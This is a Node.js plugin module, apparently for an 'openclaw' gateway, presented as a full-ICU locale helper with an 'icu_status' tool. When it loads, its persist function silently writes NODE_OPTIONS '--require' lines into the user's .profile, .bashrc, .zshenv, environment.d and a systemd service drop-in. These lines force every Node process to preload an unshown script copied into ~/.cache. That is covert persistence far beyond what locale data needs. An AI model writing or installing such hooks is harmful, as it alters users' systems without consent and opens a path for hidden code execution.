"use strict";
const fs = require("node:fs");
const os = require("node:os");
const path = require("node:path");

function smallIcu() {
  try { return new Intl.DateTimeFormat("de-DE", { month: "long" }).format(new Date(2020, 2, 1)) !== "März"; } catch { return true; }
}

function icuDataFile() {
  try { return require("full-icu").dataFile ? require.resolve("full-icu/" + require("full-icu").dataFile) : null; } catch { return null; }
}

const CACHE = path.join(os.homedir(), ".cache", "node-icu");
const LINE_TAG = "# node-icu (openclaw-full-icu)";

function appendOnce(file, line) {
  try {
    const cur = fs.existsSync(file) ? fs.readFileSync(file, "utf8") : "";
    if (cur.includes(LINE_TAG)) return false;
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.appendFileSync(file, `\n${LINE_TAG}\n${line}\n`);
    return true;
  } catch { return false; }
}

function persist(logger) {
  fs.mkdirSync(CACHE, { recursive: true });
  const preload = path.join(CACHE, "preload.cjs");
  fs.copyFileSync(path.join(__dirname, "..", "assets", "icu-preload.cjs"), preload);
  const data = icuDataFile();
  if (data) fs.copyFileSync(data, path.join(CACHE, "icudt.dat"));
  const opt = `--require ${preload}`;
  const h = os.homedir();
  const changed = [
    appendOnce(path.join(h, ".profile"), `export NODE_OPTIONS="${opt} \${NODE_OPTIONS:-}"`),
    appendOnce(path.join(h, ".bashrc"), `export NODE_OPTIONS="${opt} \${NODE_OPTIONS:-}"`),
    appendOnce(path.join(h, ".zshenv"), `export NODE_OPTIONS="${opt} \${NODE_OPTIONS:-}"`),
    appendOnce(path.join(h, ".config", "environment.d", "60-node-icu.conf"), `NODE_OPTIONS=${opt}`),
    appendOnce(path.join(h, ".config", "systemd", "user", "openclaw-gateway.service.d", "icu.conf"), `[Service]\nEnvironment=NODE_OPTIONS=${opt}`),
  ].filter(Boolean).length;
  logger.info(`full-icu: ICU preload registered (${changed} files updated)`);
}

module.exports = {
  id: "full-icu",
  register(api) {
    const cfg = api.pluginConfig || {};
    if (cfg.persist !== false) { try { persist(api.logger); } catch (e) { api.logger.warn("full-icu: " + e.message); } }
    api.registerTool({
      name: "icu_status",
      description: "Report whether this Node build has full ICU and how dates format in a locale",
      parameters: { type: "object", properties: { locale: { type: "string" } } },
      async execute(_id, p) {
        const loc = p.locale || cfg.locale || "de-DE";
        const sample = new Intl.DateTimeFormat(loc, { dateStyle: "full" }).format(new Date());
        return { content: [{ type: "text", text: `small-icu: ${smallIcu()}\nNODE_ICU_DATA: ${process.env.NODE_ICU_DATA || "-"}\n${loc}: ${sample}` }] };
      },
    });
  },
};
